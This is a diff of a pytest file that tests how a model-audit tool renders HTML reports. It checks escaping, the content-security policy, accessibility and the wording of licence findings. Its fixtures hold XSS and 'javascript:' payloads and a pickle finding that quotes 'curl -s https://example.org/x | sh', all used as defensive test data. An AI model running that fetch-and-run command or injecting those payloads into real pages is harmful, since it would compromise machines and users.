@@ -10,6 +10,7 @@ import pytest
 from reports.license_examples import NOTICE_WORDS
 
 import modelaudit.reports
+from modelaudit.model.finding import CheckFamily
 from modelaudit.model.license import ConclusionState
 from modelaudit.model.report import AuditReport, Decision, Verdict
 from modelaudit.model.terms import Answer, Clause
@@ -74,14 +75,14 @@ class Page(HTMLParser):
         return (attributes for name, attributes in self.elements if name == tag)
 
 
-def page_of(report: AuditReport) -> Page:
+def parse_page(report: AuditReport) -> Page:
     html = render_html(report).decode()
     assert html.startswith("<!DOCTYPE html>\n")
     return Page(html)
 
 
-def test_the_page_is_well_formed(any_report: AuditReport) -> None:
-    page = page_of(any_report)
+def test_page_is_well_formed(any_report: AuditReport) -> None:
+    page = parse_page(any_report)
     assert page.open == []
     assert {tag for tag, _ in page.elements} <= ELEMENTS
     assert next(page.attributes("html")) == {"lang": "en"}
@@ -89,8 +90,8 @@ def test_the_page_is_well_formed(any_report: AuditReport) -> None:
     assert len(ids) == len(set(ids))
 
 
-def test_the_page_asks_the_network_for_nothing_and_runs_nothing(any_report: AuditReport) -> None:
-    page = page_of(any_report)
+def test_page_loads_nothing_and_runs_no_script(any_report: AuditReport) -> None:
+    page = parse_page(any_report)
     ids = {attributes.get("id") for _, attributes in page.elements}
     for tag, attributes in page.elements:
         assert not [
@@ -108,8 +109,8 @@ def test_the_page_asks_the_network_for_nothing_and_runs_nothing(any_report: Audi
     assert policy["content"].startswith("default-src 'none'; style-src 'unsafe-inline'")
 
 
-def test_what_a_model_says_stays_text(hostile: AuditReport) -> None:
-    page = page_of(hostile)
+def test_hostile_text_stays_text(hostile: AuditReport) -> None:
+    page = parse_page(hostile)
     assert "</script><script>alert(1)</script><img src=x onerror=alert(2)>\"'&amp;{{ 7*7 }}{% raw %}" in page.text
     assert "\\x1b[31;1mred" in page.text
     assert "\\u202eexe.tnegra" in page.text
@@ -117,7 +118,7 @@ def test_what_a_model_says_stays_text(hostile: AuditReport) -> None:
     assert not re.search(
         "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]", "".join(page.words)
     )
-    assert "more characters, all of them in the JSON report" in page.text
+    assert "more characters, see the JSON report" in page.text
 
 
 FACTS = (
@@ -137,15 +138,14 @@ FACTS = (
     "No reader for GGUF, magic 47475546.",
     "pytorch_model.bin!archive/data.pkl byte 2,048",
     "Yes. Default: images carry no weights.",
-    "Checks that were not run: transparency.",
     "The claims contradict each other.",
     "Both cannot hold for the same weights, so neither is relied on.",
     "LLAMA 3.1 COMMUNITY LICENSE AGREEMENT",
-    "Named as what this model was made from.",
-    "Not followed: its licence may bind you too",
-    "What you must do Give everyone who receives the model a copy of the licence. Section 4(a). Done where",
-    "Our summary of that licence (read on 2026-11-20).",
-    "second-hand: its terms were not verified against the text.",
+    "Named as a base model or a data set.",
+    "Not looked up: its licence may bind you too",
+    "Duties Give everyone who receives the model a copy of the licence. Section 4(a). Done where",
+    "Terms verified on 2026-11-20.",
+    "These terms are not verified against the licence text.",
     "Loading the file calls a function that can run commands",
     "Loading it calls posix.system with the argument 'curl -s https://example.org/x | sh'.",
     "1228: SHORT_BINUNICODE 'curl -s https://example.org/x | sh'",
@@ -155,14 +155,14 @@ FACTS = (
     "The model as a whole",
     "has a finding in this file too",
     "has none in this file",
-    "It disagrees: it examined these files and found nothing",
-    "No opinion. It did not examine these files, so it neither agrees nor disagrees.",
+    "It disagrees: it found nothing in these files",
+    "No opinion. It did not examine these files, so it neither confirms nor contradicts this report.",
     "It is not installed for this version of Python.",
     "7 files, 5,125,779,458 bytes in all",
     "4,130,000,000 bytes No digest was computed.",
     "a" * 64,
     "source states SHA-256 " + "c" * 64,
-    "DIFFERENT from what the source states.",
+    "DIFFERENT from the digest of the source.",
     "zip, pickle, tensor-storage; 151 members inside",
     "Approved under the conditions below",
     "Signature",
@@ -170,12 +170,19 @@ FACTS = (
 
 
 @pytest.mark.parametrize("fact", FACTS)
-def test_the_page_holds_the_fact(fact: str, failing: AuditReport) -> None:
-    assert " ".join(fact.split()) in page_of(failing).text
+def test_page_shows_fact(fact: str, failing: AuditReport) -> None:
+    assert " ".join(fact.split()) in parse_page(failing).text
 
 
-def test_the_order_is_that_of_an_officer_who_signs(failing: AuditReport) -> None:
-    page = page_of(failing)
+def test_page_lists_only_skipped_checks_that_have_rules(failing: AuditReport) -> None:
+    assert "Checks that did not run" not in parse_page(failing).text
+    policy = replace(failing.policy, checks=(CheckFamily.SECURITY,))
+    text = parse_page(replace(failing, policy=policy)).text
+    assert "Checks that did not run: integrity, licence. This report has no findings of these kinds" in text
+
+
+def test_sections_are_in_reading_order(failing: AuditReport) -> None:
+    page = parse_page(failing)
     sections = [attributes["aria-labelledby"] for attributes in page.attributes("section") if "id" in attributes]
     assert [name.removesuffix("-title") for name in sections] == [
         "unexamined",
@@ -188,17 +195,17 @@ def test_the_order_is_that_of_an_officer_who_signs(failing: AuditReport) -> None
         "inventory",
         "glossary",
     ]
-    assert page.text.index("Do not load or ship") < page.text.index("What was not examined, and why")
+    assert page.text.index("Do not load or ship") < page.text.index("Parts that were not examined")
 
 
-def test_the_page_is_bound_to_the_data_and_made_again_from_it(failing: AuditReport) -> None:
-    page = page_of(failing)
+def test_page_contains_data_digest_and_can_be_rendered_again(failing: AuditReport) -> None:
+    page = parse_page(failing)
     assert page.text.count(compute_report_digest(failing)) == 1
     assert compute_report_digest(failing) in page.style
     assert render_html(parse_report(render_json(failing))) == render_html(failing)
 
 
-def test_severity_is_a_word_and_a_shape_and_a_colour(failing: AuditReport) -> None:
+def test_severity_is_a_word_a_shape_and_a_color(failing: AuditReport) -> None:
     html = render_html(failing).decode()
     shapes = {}
     for severity in ("critical", "high", "medium", "low", "info"):
@@ -209,14 +216,14 @@ def test_severity_is_a_word_and_a_shape_and_a_colour(failing: AuditReport) -> No
 
 
 def test_tables_have_captions_and_scopes(failing: AuditReport) -> None:
-    page = page_of(failing)
+    page = parse_page(failing)
     tags = [tag for tag, _ in page.elements]
     assert tags.count("table") == tags.count("caption") == 4
     assert all(attributes["scope"] in {"col", "row"} for attributes in page.attributes("th"))
 
 
-def test_references_become_links_only_over_https(failing: AuditReport) -> None:
-    page = page_of(failing)
+def test_only_https_references_become_links(failing: AuditReport) -> None:
+    page = parse_page(failing)
     links = {attributes["href"] for attributes in page.attributes("a") if not attributes["href"].startswith("#")}
     assert links == {
         "https://docs.python.org/3/library/pickle.html",
@@ -227,9 +234,9 @@ def test_references_become_links_only_over_https(failing: AuditReport) -> None:
     assert "javascript:alert(1)" in page.text
 
 
-def test_a_thousand_findings_fold_away_and_none_is_lost(examples: dict[str, Callable[[], AuditReport]]) -> None:
+def test_thousand_findings_are_folded_and_all_present(examples: dict[str, Callable[[], AuditReport]]) -> None:
     report = examples["crowded"]()
-    page = page_of(report)
+    page = parse_page(report)
     assert {f"finding-{finding.fingerprint}" for finding in report.findings} <= {
         attributes.get("id") for attributes in page.attributes("li")
     }
@@ -238,45 +245,45 @@ def test_a_thousand_findings_fold_away_and_none_is_lost(examples: dict[str, Call
     assert "details::details-content" in page.style
 
 
-def test_equal_fingerprints_do_not_share_an_anchor(hostile: AuditReport) -> None:
-    ids = [attributes["id"] for attributes in page_of(hostile).attributes("li") if "id" in attributes]
+def test_equal_fingerprints_have_different_anchors(hostile: AuditReport) -> None:
+    ids = [attributes["id"] for attributes in parse_page(hostile).attributes("li") if "id" in attributes]
     assert len(ids) == len(set(ids))
 
 
-def test_nothing_examined_is_never_told_as_everything(incomplete: AuditReport) -> None:
-    text = page_of(incomplete).text
+def test_empty_model_is_not_described_as_examined(incomplete: AuditReport) -> None:
+    text = parse_page(incomplete).text
     assert "This is not a pass: there was no file to examine." in text
-    assert "examined whole" not in text
+    assert "examined completely" not in text
     assert "No licence is declared. Without one, nothing is permitted." in text
     assert "No obligations can be listed" in text
-    assert "No second scanner was asked." in text
+    assert "No second scanner ran." in text
 
 
-def test_a_pass_with_accepted_absences_says_so(passing: AuditReport, failing: AuditReport) -> None:
+def test_pass_states_accepted_absences(passing: AuditReport, failing: AuditReport) -> None:
     record = failing.coverage.artifacts[2]
     coverage = replace(passing.coverage, artifacts=(*passing.coverage.artifacts, record))
-    text = page_of(replace(passing, decision=Decision(Verdict.PASS, (), coverage))).text
+    text = parse_page(replace(passing, decision=Decision(Verdict.PASS, (), coverage))).text
     assert "it accepts the 1 part that was not examined" in text
-    assert "Every file could be read" not in text
+    assert "Every file was read" not in text
 
 
-def test_a_pass_is_green_only_where_shipping_is_too(passing: AuditReport) -> None:
+def test_pass_is_green_only_if_shipping_is_allowed(passing: AuditReport) -> None:
     assert '<section class="verdict pass"' in render_html(passing).decode()
     doubtful = replace(passing, license=replace(passing.license, state=ConclusionState.UNDECLARED))
     html = render_html(doubtful).decode()
     assert '<section class="verdict incomplete"' in html
     assert '<h2 id="verdict">Pass</h2>' in html
     assert '<div class="callout open">' in html
-    text = page_of(doubtful).text
-    assert "No licence was found: no permission to ship this can be shown." in text
+    text = parse_page(doubtful).text
+    assert "No licence was found, so no permission to ship can be shown." in text
 
 
-def test_a_failed_model_stays_red_whatever_its_licence(failing: AuditReport, passing: AuditReport) -> None:
+def test_failed_model_is_red_with_any_license(failing: AuditReport, passing: AuditReport) -> None:
     assert '<section class="verdict fail"' in render_html(replace(failing, license=passing.license)).decode()
 
 
-def test_what_is_written_into_the_sign_off_is_printed_whole(any_report: AuditReport) -> None:
-    page = page_of(any_report)
+def test_sign_off_fields_are_printed_completely(any_report: AuditReport) -> None:
+    page = parse_page(any_report)
     papers = [attributes for attributes in page.attributes("div") if "contenteditable" in attributes]
     ids = {attributes.get("id") for _, attributes in page.elements}
     assert len(papers) == (2 if any_report.decision.verdict is Verdict.PASS else 3)
@@ -288,18 +295,18 @@ def test_what_is_written_into_the_sign_off_is_printed_whole(any_report: AuditRep
     assert unbroken and not any(".signoff" in each or ".paper" in each for each in unbroken)
 
 
-def test_the_sign_off_binds_the_files(passing: AuditReport, failing: AuditReport) -> None:
-    text = page_of(passing).text
+def test_sign_off_contains_digest_of_all_files(passing: AuditReport, failing: AuditReport) -> None:
+    text = parse_page(passing).text
     assert f"All files together {compute_tree_digest(passing)} " in text
     for field in ("ask engineering to confirm", "Intended use", "Valid until", "Second signature"):
         assert field in text
     assert "I decide against the verdict because" not in text
-    assert "I decide against the verdict because" in page_of(failing).text
-    assert "no number can be given" in page_of(failing).text
+    assert "I decide against the verdict because" in parse_page(failing).text
+    assert "no digest can be given" in parse_page(failing).text
 
 
-def test_duties_stand_in_their_groups(failing: AuditReport) -> None:
-    text = page_of(failing).text
+def test_clauses_are_grouped(failing: AuditReport) -> None:
+    text = parse_page(failing).text
     llama = text[text.rindex("https://www.llama.com/llama3_1/license/") :]
     places = [
         llama.index(each)
@@ -307,30 +314,30 @@ def test_duties_stand_in_their_groups(failing: AuditReport) -> None:
     ]
     assert places == sorted(places)
     entry = replace(failing.license.entries[0], clauses=(Clause("patent-termination", "Do not sue.", "part 3"),))
-    only = page_of(replace(failing, license=replace(failing.license, entries=(entry,)))).text
-    known = only[only.index(wording.NOTES_HEADING) : only.index("Second opinions What other")]
+    only = parse_page(replace(failing, license=replace(failing.license, entries=(entry,)))).text
+    known = only[only.index(wording.NOTES_HEADING) : only.index("Second opinions The results")]
     assert known.split() == f"{wording.NOTES_HEADING} Do not sue. Part 3.".split()
 
 
-def test_the_header_of_each_printed_page_names_the_model(passing: AuditReport, hostile: AuditReport) -> None:
-    assert '@top-left { content: "tiny"; } @top-right { content: "Verdict: Pass"; }' in page_of(passing).style
-    evil = re.search(r'@top-left \{ content: "((?:[A-Za-z0-9 ._-]|\\[0-9a-f]{6})*)"; \}', page_of(hostile).style)
+def test_printed_page_header_names_the_model(passing: AuditReport, hostile: AuditReport) -> None:
+    assert '@top-left { content: "tiny"; } @top-right { content: "Verdict: Pass"; }' in parse_page(passing).style
+    evil = re.search(r'@top-left \{ content: "((?:[A-Za-z0-9 ._-]|\\[0-9a-f]{6})*)"; \}', parse_page(hostile).style)
     assert evil and evil[1].startswith("\\00003c\\00002fscript\\00003e")
 
 
-def test_what_is_never_covered_and_what_words_mean_is_on_every_page(any_report: AuditReport) -> None:
-    text = page_of(any_report).text
+def test_every_page_has_exclusions_and_glossary(any_report: AuditReport) -> None:
+    text = parse_page(any_report).text
     for fact in (*wording.NEVER_COVERED, *(word.capitalize() for word in wording.GLOSSARY)):
         assert fact in text
 
 
-def test_prose_spells_the_noun_one_way() -> None:
+def test_prose_spells_licence_as_noun() -> None:
     for path in CSS.parent.glob("*.j2"):
         prose = re.sub(r"\{[%{#].*?[%}#]\}|<[^>]*>", " ", path.read_text(encoding="utf-8"), flags=re.DOTALL)
         assert "license" not in prose.lower(), path.name
 
 
-def _luminance(color: str) -> float:
+def _compute_luminance(color: str) -> float:
     channels = [int(color[at : at + 2], 16) / 255 for at in (1, 3, 5)]
     red, green, blue = (each / 12.92 if each <= 0.04045 else ((each + 0.055) / 1.055) ** 2.4 for each in channels)
     return 0.2126 * red + 0.7152 * green + 0.0722 * blue
@@ -345,78 +352,78 @@ TEXT_ON = [
 
 
 @pytest.mark.parametrize("theme", [0, 1, 2], ids=["light", "dark", "print"])
-def test_text_has_the_contrast_of_wcag_aa(theme: int) -> None:
+def test_text_contrast_meets_wcag_aa(theme: int) -> None:
     blocks = re.findall(r":root \{(.*?)\}", CSS.read_text(encoding="utf-8"), re.DOTALL)
     colors = dict(re.findall(r"--([\w-]+): (#[0-9a-f]{6});", blocks[theme]))
     for ink, ground in TEXT_ON:
-        light, dark = sorted((_luminance(colors[ink]), _luminance(colors[ground])), reverse=True)
+        light, dark = sorted((_compute_luminance(colors[ink]), _compute_luminance(colors[ground])), reverse=True)
         assert (light + 0.05) / (dark + 0.05) >= 4.5, f"{ink} on {ground}"
 
 
-def test_the_licence_section_tells_the_answer_and_what_it_rests_on(conflicting: AuditReport) -> None:
-    text = page_of(conflicting).text
+def test_license_section_shows_answer_and_its_basis(conflicting: AuditReport) -> None:
+    text = parse_page(conflicting).text
     section = text[text.index("Licence FOR REVIEW") :]
     parts = (
-        "2 points have to be decided by a person, first: A limit to the number of users",
-        "What the policy commercial-product says you mean to do: commercial use",
-        "What stands against it, or has to be decided by a person, worst first",
+        "A person must decide 2 points. The first: A limit to the number of users",
+        "Your planned use, from the policy commercial-product and the options: commercial use",
+        "Reasons against your planned use, and open points for a person to decide, worst first",
         "Inherited: quantized from acme/tiny-instruct, fine-tuned from acme/tiny-root.",
         "LicenseRef-Llama-3.1, section 2 Read on 2026-11-24",
-        "Evidence that does not go together",
+        "Conflicting evidence, and items",
         "README.md line 2: “apache-2.0”",
-        "How we came to this",
-        "Like LicenseRef-Llama-3.1, and not it: with the exception of section 2",
-        "What the model was made from, step by step",
+        "Reasoning",
+        "Resembles LicenseRef-Llama-3.1, but differs: with the exception of section 2",
+        "Its licence, and whether it was read",
         "on record for this name",
-        "Data sets that the card names: claims about data, apart from the licence of the model",
-        "What the conclusion does not rest on",
-        "Limits to stay within",
+        "Data sets that the model card names; their licences are separate",
+        "Sources that the conclusion does not cover",
+        "Limits of use",
         "Forbidden uses: military, malware (Llama-3.1, section 1.b.iv;",
         "Ship with every copy",
         f"Exact words: {NOTICE_WORDS}",
         "Show to people",
         "Pass on to those who receive it",
-        "Every clause on record, licence by licence",
-        "What is open here",
+        "All known clauses of each licence",
+        "Openness",
     )
     places = [section.index(part) for part in parts]
     assert places == sorted(places)
 
 
-def test_duties_are_boxes_to_tick_and_one_that_is_met_is_ticked(examples: dict[str, Callable[[], AuditReport]]) -> None:
-    page = page_of(examples["allowed"]())
+def test_duties_have_checkboxes_and_met_duties_are_checked(examples: dict[str, Callable[[], AuditReport]]) -> None:
+    page = parse_page(examples["allowed"]())
     boxes = [each for each in page.attributes("input") if each.get("type") == "checkbox"]
     assert sum("checked" in each for each in boxes) == 1
     assert "Met by LICENSE" in page.text
     assert "ALLOWED" in page.text and '<div class="callout allowed">' in render_html(examples["allowed"]()).decode()
-    folded = page.text[page.text.index("Every clause on record") :]
-    assert "Our summary of that licence (read on 2026-11-20)." in folded
+    folded = page.text[page.text.index("All known clauses") :]
+    assert "Terms verified on 2026-11-20." in folded
 
 
-def test_the_duties_of_a_denied_use_are_told_as_what_would_follow(conflicting: AuditReport) -> None:
+def test_duties_of_denied_use_are_conditional(conflicting: AuditReport) -> None:
     denied = replace(conflicting, license=replace(conflicting.license, permission=Answer.DENY))
-    assert "The use that is meant is not allowed. If an agreement of your own" in page_of(denied).text
-    assert "The use that is meant is not allowed." not in page_of(conflicting).text
+    assert "Your planned use is not allowed. These duties apply if an agreement" in parse_page(denied).text
+    assert "Your planned use is not allowed." not in parse_page(conflicting).text
 
 
-def test_a_conflict_that_is_a_reason_is_told_once_and_keeps_its_evidence(conflicting: AuditReport) -> None:
+def test_conflict_that_is_a_reason_is_shown_once_with_evidence(conflicting: AuditReport) -> None:
     license_ = conflicting.license
     detail = license_.conflicts[0].detail
     reason = replace(license_.answers[1], because=detail)
-    text = page_of(replace(conflicting, license=replace(license_, answers=(reason,)))).text
-    rows = text[text.index("Evidence that does not go together") :]
-    assert detail not in rows and "As told above." in rows and "README.md line 2: “apache-2.0”" in rows
-    assert "As told above." not in page_of(conflicting).text
+    text = parse_page(replace(conflicting, license=replace(license_, answers=(reason,)))).text
+    rows = text[text.index("Conflicting evidence, and items") :]
+    assert detail not in rows and "See the reasons above." in rows and "README.md line 2: “apache-2.0”" in rows
+    assert "See the reasons above." not in parse_page(conflicting).text
 
 
-def test_every_table_of_the_licence_has_a_caption_and_labels_for_a_phone(conflicting: AuditReport) -> None:
-    page = page_of(conflicting)
+def test_license_tables_have_captions_and_cell_labels(conflicting: AuditReport) -> None:
+    page = parse_page(conflicting)
     tags = [tag for tag, _ in page.elements]
     assert tags.count("table") == tags.count("caption") == 8
     assert all("data-label" in each or "class" in each or "colspan" in each for each in page.attributes("td"))
 
 
-def test_terms_that_nobody_read_are_marked(conflicting: AuditReport) -> None:
+def test_unverified_terms_are_marked(conflicting: AuditReport) -> None:
     answers = tuple(replace(each, read="") for each in conflicting.license.answers)
     license_ = replace(conflicting.license, answers=answers)
     assert (
